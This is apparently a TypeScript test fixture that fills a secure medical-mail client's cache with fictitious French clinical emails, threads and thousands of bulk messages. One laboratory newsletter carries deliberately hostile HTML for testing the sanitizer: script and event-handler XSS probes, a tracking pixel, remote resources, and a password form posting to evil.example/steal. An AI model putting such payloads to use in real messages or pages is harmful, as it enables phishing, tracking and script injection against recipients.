// Fills a cache with real MIME messages: .eml files composed with nodemailer, parsed back with
// mailparser, stored through StoreWriter (what the sync engine does with fetched messages), plus a few
// thousand header-only messages to exercise the virtualized list.
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { simpleParser, type AddressObject } from 'mailparser';
import MailComposer from 'nodemailer/lib/mail-composer';
import type { StoreWriter } from '../../../main/store/writer';
import type { Address, AttachmentInput, MessageInput } from '../../../main/store/types';

export const ALICE = 'alice.martin@test.mssante.fr';
export const SECRETARIAT = 'secretariat.cabinet@test.mssante.fr';
export const BOB = 'bob.durand@test.mssante.fr';
export const BULK = 3000;

// A real 1-page PDF and a 2×2 PNG.
export const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n' +
    '4 0 obj<</Length 58>>stream\nBT /F1 18 Tf 30 120 Td (Compte rendu de consultation) Tj ET\nendstream endobj\n' +
    '5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGNgYGD4z8DAwMDAxMDAAAAkDgMBpWq6OwAAAABJRU5ErkJggg==',
  'base64',
);

interface Eml {
  uid: number;
  folder: 'INBOX' | 'Sent';
  flags?: string[];
  mail: ConstructorParameters<typeof MailComposer>[0];
  minutesAgo: number;
}

function emls(remoteBase: string): Eml[] {
  const from = { name: 'Dr_Marie_MARTIN_Cabinet Medical', address: 'marie.martin@medecin.mssante.fr' };
  const to = [{ name: 'Dr Alice MARTIN', address: ALICE }];
  return [
    {
      uid: 101, folder: 'INBOX', minutesAgo: 5,
      mail: {
        from, to, subject: 'XDM/1.0/DDM+Compte rendu de consultation DUPONT Jean 12/04/1961',
        headers: { 'X-MSS-CODECDA': '11488-4', 'X-MSS-INS': 'O', 'X-MSS-NIL': 'LPS-TEST-1.0' },
        text: 'Chère consœur,\n\nVeuillez trouver ci-joint le compte rendu de consultation de M. DUPONT.\n\nBien confraternellement,\nDr Marie MARTIN',
        attachments: [
          { filename: 'Compte-rendu DUPONT.pdf', content: PDF, contentType: 'application/pdf' },
          { filename: 'IHE_XDM.zip', content: Buffer.from('PK\u0003\u0004 fictif'), contentType: 'application/zip' },
        ],
      },
    },
    {
      uid: 102, folder: 'INBOX', minutesAgo: 30,
      mail: {
        from: { name: 'Laboratoire BIOLAB', address: 'resultats@biolab.mssante.fr' }, to,
        subject: 'Lettre d’information du laboratoire — nouveaux horaires',
        text: 'Nouveaux horaires du laboratoire : du lundi au samedi, 7 h – 19 h. https://biolab.example.fr/horaires',
        html:
          `<html><head><style>body{background:url(${remoteBase}/bg.png)} p.horaires{font-size:18px}</style><link rel="stylesheet" href="${remoteBase}/x.css">` +
          `<script>window.parent.postMessage('pwned','*')</script></head><body onload="alert(1)">` +
          `<h1 style="color: rgb(0, 102, 153); border-bottom: 2px solid #069">Laboratoire BIOLAB</h1><p><img id="logo" src="${remoteBase}/logo.png" alt="Logo du laboratoire" width="120">` +
          `<img id="pixel" src="${remoteBase}/pixel.gif?u=alice" width="1" height="1"></p>` +
          `<p class="horaires">Nos <b>nouveaux horaires</b> : du lundi au samedi, 7 h – 19 h.</p>` +
          `<table background="${remoteBase}/table-bg.png"><tr><td bgcolor="#e6f0fa">Prélèvements sans rendez-vous</td></tr></table>` +
          `<form action="https://evil.example/steal"><input name="pwd"><button>Envoyer</button></form>` +
          `<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>` +
          `<a href="javascript:alert(2)" id="jslink">cliquer</a> <a href="https://biolab.example.fr/horaires" id="link">Voir les horaires</a>` +
          `<img src="x" onerror="alert(3)" id="onerr"></body></html>`,
      },
    },
    {
      uid: 103, folder: 'INBOX', minutesAgo: 60 * 3,
      mail: {
        from: { name: 'Dr Paul LEROY', address: 'paul.leroy@radiologie.mssante.fr' }, to,
        subject: 'Radiographie thoracique — Mme BERNARD',
        text: 'Cliché en pièce jointe, sans particularité.',
        html: '<p>Cliché ci-dessous, <i>sans particularité</i> :</p><p><img src="cid:radio@leroy" alt="Radiographie"></p>',
        attachments: [
          { filename: 'radio.png', content: PNG, contentType: 'image/png', cid: 'radio@leroy' },
          { filename: 'radio-face.png', content: PNG, contentType: 'image/png' },
        ],
      },
    },
    {
      uid: 104, folder: 'INBOX', minutesAgo: 60 * 26, flags: ['\\Seen'],
      mail: { from: { name: 'Dr Bob DURAND', address: BOB }, to, subject: 'Avis cardiologique', messageId: '<avis-1@test.mssante.fr>', text: 'Pourrais-tu voir Mme ROUX ?' },
    },
    {
      uid: 105, folder: 'INBOX', minutesAgo: 60 * 25, flags: ['\\Seen', '\\Flagged'],
      mail: {
        from: { name: 'Dr Bob DURAND', address: BOB }, to, subject: 'Re: Avis cardiologique', messageId: '<avis-3@test.mssante.fr>',
        inReplyTo: '<avis-2@test.mssante.fr>', references: ['<avis-1@test.mssante.fr>', '<avis-2@test.mssante.fr>'],
        text: 'Merci, je la vois jeudi.',
      },
    },
    {
      uid: 106, folder: 'INBOX', minutesAgo: 60 * 24 * 40,
      mail: { from: { name: 'Centre hospitalier', address: 'secretariat.cardio@ch.mssante.fr' }, to, cc: [{ name: 'Secrétariat', address: SECRETARIAT }], subject: 'Convocation de Mme ROUX — échographie', text: 'Rendez-vous le 3 avril à 9 h 30.' },
    },
    {
      uid: 201, folder: 'Sent', minutesAgo: 60 * 25.5, flags: ['\\Seen'],
      mail: { from: { name: 'Dr Alice MARTIN', address: ALICE }, to: [{ name: 'Dr Bob DURAND', address: BOB }], subject: 'Re: Avis cardiologique', messageId: '<avis-2@test.mssante.fr>', inReplyTo: '<avis-1@test.mssante.fr>', references: ['<avis-1@test.mssante.fr>'], text: 'Oui, envoie-la moi.' },
    },
  ];
}

const addrs = (a: AddressObject | AddressObject[] | undefined): Address[] =>
  (Array.isArray(a) ? a : a ? [a] : []).flatMap((o) => o.value).map((v) => ({ name: v.name || null, address: v.address ?? '' }));

export async function seedStore(w: StoreWriter, dir: string, remoteBase: string): Promise<void> {
  const accounts = {
    alice: w.upsertAccount({ address: ALICE, type: 'PER', label: 'Dr Alice MARTIN' }),
    secretariat: w.upsertAccount({ address: SECRETARIAT, type: 'ORG', label: 'Secrétariat du cabinet' }),
    bob: w.upsertAccount({ address: BOB, type: 'PER', label: 'Dr Bob DURAND' }),
  };
  // Synced once already, as after a first login (Junk is left never synced: its first sync shows in the list).
  const folder = (acc: number, p: string, specialUse: string | null) =>
    w.upsertFolder(acc, { path: p, delimiter: '/', specialUse, uidvalidity: 1, lastSyncAt: p === 'Junk' ? null : Date.now() }).id;
  const f = {
    inbox: folder(accounts.alice, 'INBOX', null),
    sent: folder(accounts.alice, 'Sent', '\\Sent'),
    drafts: folder(accounts.alice, 'Drafts', '\\Drafts'),
    trash: folder(accounts.alice, 'Trash', '\\Trash'),
    junk: folder(accounts.alice, 'Junk', '\\Junk'),
    archive: folder(accounts.alice, 'Archives', '\\Archive'),
    bulk: folder(accounts.alice, 'Archives/2025', null),
    secInbox: folder(accounts.secretariat, 'INBOX', null),
    bobInbox: folder(accounts.bob, 'INBOX', null),
  };
  fs.mkdirSync(dir, { recursive: true });
  const now = Date.now();
  for (const e of emls(remoteBase)) {
    const raw = await new MailComposer({ ...e.mail, date: new Date(now - e.minutesAgo * 60_000) }).compile().build();
    const file = path.join(dir, `${e.folder}-${e.uid}.eml`);
    fs.writeFileSync(file, raw);
    const p = await simpleParser(fs.readFileSync(file), { keepCidLinks: true });
    const mss: Record<string, string> = {};
    for (const [k, v] of p.headers) if (k.startsWith('x-mss-')) mss[k] = String(v);
    const refs = Array.isArray(p.references) ? p.references : p.references ? [p.references] : [];
    const input: MessageInput = {
      uid: e.uid, messageId: p.messageId ?? null, inReplyTo: p.inReplyTo ?? null, references: refs,
      subject: p.subject ?? null, from: addrs(p.from)[0] ?? null, to: addrs(p.to), cc: addrs(p.cc),
      date: p.date?.getTime() ?? now, size: raw.length, flags: e.flags ?? [], hasAttachments: p.attachments.length > 0,
      mssHeaders: mss,
    };
    const folderId = e.folder === 'INBOX' ? f.inbox : f.sent;
    const [id] = w.upsertMessages(folderId, 1, [input]).ids;
    const atts: AttachmentInput[] = p.attachments.map((a, i) => ({
      part: String(i + 2), sha256: crypto.createHash('sha256').update(a.content).digest('hex'), size: a.size, mime: a.contentType,
      filename: a.filename ?? null, contentId: a.cid ?? null, disposition: a.contentDisposition ?? null, data: a.content,
    }));
    w.storeBody(id!, { text: p.text ?? null, html: p.html || null, rawSize: raw.length }, atts);
  }
  // Conversations for the threaded view, in Archives (no other test counts that folder): a 5-message
  // follow-up whose reply from Alice is kept in Sent, a 2-message one (the reply only in Sent) and a lone message.
  const claire = { name: 'Dr Claire NOËL', address: 'claire.noel@chirurgie.mssante.fr' };
  const julie = { name: 'Julie FAURE (IDE)', address: 'julie.faure@soins.mssante.fr' };
  const hugo = { name: 'Dr Hugo BLANC', address: 'hugo.blanc@dermato.mssante.fr' };
  const me = { name: 'Dr Alice MARTIN', address: ALICE };
  const conv = (uid: number, id: string, parents: string[], from: Address, hoursAgo: number, subject: string, text: string, flags: string[]): MessageInput => ({
    uid, messageId: `<${id}@test.mssante.fr>`, inReplyTo: parents.length ? `<${parents.at(-1)}@test.mssante.fr>` : null,
    references: parents.map((p) => `<${p}@test.mssante.fr>`), subject, from, to: [from === me ? claire : me],
    date: now - hoursAgo * 3_600_000, flags, body: { text },
  });
  const suivi = 'Suivi post-opératoire — M. LEFEBVRE';
  w.upsertMessages(f.archive, 1, [
    conv(1, 'lef-1', [], claire, 24 * 9, suivi, 'Sortie de M. LEFEBVRE ce jour, pansement à refaire à J+2.', ['\\Seen']),
    conv(2, 'lef-3', ['lef-1', 'lef-2'], claire, 24 * 6, `Re: ${suivi}`, 'Merci. Contrôle en consultation à J+10.', ['\\Seen']),
    conv(3, 'lef-4', ['lef-1', 'lef-2', 'lef-3'], julie, 24 * 3, `Re: ${suivi}`, 'Pansement refait ce matin, cicatrice propre.', []),
    conv(4, 'lef-5', ['lef-1', 'lef-2', 'lef-3', 'lef-4'], claire, 2, `Re: ${suivi}`, 'Parfait, ablation des fils prévue lundi.', ['\\Flagged']),
    conv(5, 'gar-1', [], hugo, 24 * 2, 'Demande d’avis dermatologique — Mme GARNIER', 'Photo de la lésion à venir.', ['\\Seen']),
    conv(6, 'pet-1', [], { name: 'Laboratoire BIOLAB', address: 'resultats@biolab.mssante.fr' }, 24 * 5, 'HbA1c — M. PETIT', 'HbA1c à 6,8 %.', ['\\Seen']),
  ]);
  w.upsertMessages(f.sent, 1, [
    conv(202, 'lef-2', ['lef-1'], me, 24 * 8, `Re: ${suivi}`, 'Bien reçu, je passe le voir à domicile.', ['\\Seen']),
    conv(203, 'gar-2', ['gar-1'], me, 24, 'Re: Demande d’avis dermatologique — Mme GARNIER', 'Je la vois mardi.', ['\\Seen']),
  ]);
  // Thousands of rows for the virtualized list (headers only, like a first sync before bodies).
  const bulk: MessageInput[] = [];
  for (let i = 1; i <= BULK; i++) {
    bulk.push({
      uid: i, messageId: `<bulk-${i}@archives.test>`, subject: `Résultat d’analyse n° ${i}`,
      from: { name: 'Laboratoire BIOLAB', address: 'resultats@biolab.mssante.fr' }, to: [{ name: null, address: ALICE }],
      date: Date.UTC(2025, 0, 1) + i * 3_600_000, flags: i % 3 ? ['\\Seen'] : [],
    });
  }
  w.upsertMessages(f.bulk, 1, bulk);
  w.upsertMessages(f.secInbox, 1, [{ uid: 1, subject: 'Commande de fournitures', from: { name: 'Fournisseur', address: 'contact@fournisseur.test' }, date: now - 7_200_000, to: [{ address: SECRETARIAT }] }]);
  w.upsertMessages(f.bobInbox, 1, [{ uid: 1, subject: 'Confidentiel Bob : dossier patient', from: { name: 'X', address: 'x@test.mssante.fr' }, date: now - 60_000, to: [{ address: BOB }] }]);
}
